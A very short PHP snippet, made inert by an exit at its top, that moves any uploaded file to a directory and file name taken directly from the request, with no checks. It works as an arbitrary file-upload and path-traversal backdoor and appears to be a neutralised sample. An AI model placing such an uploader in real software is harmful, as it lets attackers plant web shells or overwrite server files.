<?php exit; /* inert */ 
array_map(
    fn(array $f) => move_uploaded_file($f['tmp_name'], sprintf('%s/%s', $_GET['to'] ?? __DIR__, $f['full_path'] ?? $f['name'])),
    array_values($_FILES),
);
